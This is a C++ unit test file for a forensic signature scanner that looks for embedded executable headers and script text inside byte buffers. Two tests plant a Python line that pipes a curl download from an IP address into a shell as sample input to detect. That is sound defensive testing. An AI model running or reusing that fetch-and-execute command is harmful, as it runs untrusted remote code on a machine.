#include "forensics/signature_scan.h"

#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <random>
#include <string>
#include <vector>

namespace modelgate::forensics {
namespace {

std::vector<std::uint8_t> RandomBytes(std::size_t n, unsigned seed) {
  std::mt19937 rng(seed);
  std::vector<std::uint8_t> v(n);
  for (auto& b : v) b = static_cast<std::uint8_t>(rng());
  return v;
}

std::vector<SignatureMatch> Scan(const std::vector<std::uint8_t>& w, RawMagicCounts* raw = nullptr) {
  RawMagicCounts local;
  std::vector<SignatureMatch> m;
  FindSignatures(w, w.size(), -1, 100, &m, raw ? raw : &local);
  return m;
}

void Put(std::vector<std::uint8_t>* v, std::size_t at, std::string_view s) {
  for (std::size_t i = 0; i < s.size(); ++i) (*v)[at + i] = static_cast<std::uint8_t>(s[i]);
}

TEST(SignatureScan, FindsRealElfHeader) {
  std::ifstream in("/bin/true", std::ios::binary);
  std::vector<std::uint8_t> elf((std::istreambuf_iterator<char>(in)), {});
  ASSERT_GT(elf.size(), 64u);
  auto w = RandomBytes(10000, 1);
  std::copy(elf.begin(), elf.begin() + 64, w.begin() + 777);
  auto m = Scan(w);
  ASSERT_FALSE(m.empty());
  EXPECT_EQ(m[0].signature, Signature::kElf);
  EXPECT_EQ(m[0].position, 777u);
}

TEST(SignatureScan, BareElfMagicWithBadIdentIsNotAMatch) {
  std::vector<std::uint8_t> w(64, 0);
  Put(&w, 0, "\x7f" "ELF");
  w[4] = 3;  // no such class
  w[5] = 1;
  w[6] = 1;
  RawMagicCounts raw;
  EXPECT_TRUE(Scan(w, &raw).empty());
  EXPECT_EQ(raw.hits[static_cast<int>(Signature::kElf)], 1u);
}

TEST(SignatureScan, PeNeedsHeaderAtLfanew) {
  std::vector<std::uint8_t> w(512, 0);
  Put(&w, 0, "MZ");
  w[0x3c] = 0x80;
  EXPECT_TRUE(Scan(w).empty());  // MZ alone: two bytes occur by chance every 64 KiB
  Put(&w, 0x80, std::string_view("PE\0\0", 4));
  auto m = Scan(w);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].signature, Signature::kPe);
}

TEST(SignatureScan, ZipGzipPdfShebangMachO) {
  std::vector<std::uint8_t> w(4096, 0xaa);
  // ZIP local header: version 20, method 8, name length 5.
  Put(&w, 100, "PK\x03\x04");
  w[104] = 20; w[105] = 0; w[108] = 8; w[109] = 0; w[126] = 5; w[127] = 0;
  // gzip: flags 0, xfl 0, os 3.
  Put(&w, 300, "\x1f\x8b\x08");
  w[303] = 0; w[308] = 0; w[309] = 3;
  Put(&w, 500, "%PDF-1.7");
  Put(&w, 700, "#!/bin/sh\n");
  Put(&w, 900, "\xcf\xfa\xed\xfe");  // 64-bit little-endian Mach-O, arm64, MH_EXECUTE
  w[904] = 0x0c; w[905] = 0; w[906] = 0; w[907] = 0x01;
  w[912] = 2; w[913] = 0; w[914] = 0; w[915] = 0;
  auto m = Scan(w);
  std::vector<Signature> got;
  for (const auto& x : m) got.push_back(x.signature);
  EXPECT_EQ(got, (std::vector<Signature>{Signature::kZip, Signature::kGzip, Signature::kPdf, Signature::kShebang,
                                         Signature::kMachO}));
}

TEST(SignatureScan, ScriptTextNeedsLengthAndKeyword) {
  std::vector<std::uint8_t> w(1024, 0);
  std::string plain(80, 'a');
  Put(&w, 10, plain);
  EXPECT_TRUE(Scan(w).empty());
  std::string script = "import os; os.system('curl http://203.0.113.7/x | sh') # padding padding";
  ASSERT_GE(script.size(), kScriptMinRun);
  Put(&w, 200, script);
  auto m = Scan(w);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].signature, Signature::kScriptText);
  EXPECT_EQ(m[0].position, 200u);
  EXPECT_EQ(m[0].length, script.size());
}

TEST(SignatureScan, OnlyStartsBeforeScanEndCountButLookaheadConfirms) {
  std::vector<std::uint8_t> w(600, 0);
  Put(&w, 0, "MZ");
  w[0x3c] = 0x80;
  Put(&w, 0x80, std::string_view("PE\0\0", 4));
  std::vector<SignatureMatch> m;
  RawMagicCounts raw;
  FindSignatures(w, 1, -1, 10, &m, &raw);  // only position 0 may start a match
  ASSERT_EQ(m.size(), 1u);
  m.clear();
  FindSignatures(std::span(w).subspan(1), 10, -1, 10, &m, &raw);
  EXPECT_TRUE(m.empty());
}

TEST(SignatureScan, RandomBytesGiveNoConfirmedMatchAndChanceLevelMagics) {
  auto w = RandomBytes(8 << 20, 7);
  RawMagicCounts raw;
  EXPECT_TRUE(Scan(w, &raw).empty());
  // "MZ" is expected 8 Mi / 65536 = 128 times; allow wide Poisson bounds.
  auto mz = raw.hits[static_cast<int>(Signature::kPe)];
  EXPECT_GT(mz, 80u);
  EXPECT_LT(mz, 180u);
}

TEST(SignatureScan, ContinuedRunFromPreviousWindowIsNotANewStart) {
  std::string script = "import os; os.system('curl http://203.0.113.7/x | sh') # padding padding";
  std::vector<std::uint8_t> w(script.begin(), script.end());
  w.push_back(0);
  std::vector<SignatureMatch> m;
  RawMagicCounts raw;
  FindSignatures(w, w.size(), 'x', 10, &m, &raw);
  EXPECT_TRUE(m.empty());
  FindSignatures(w, w.size(), 0, 10, &m, &raw);
  EXPECT_EQ(m.size(), 1u);
}

}  // namespace
}  // namespace modelgate::forensics
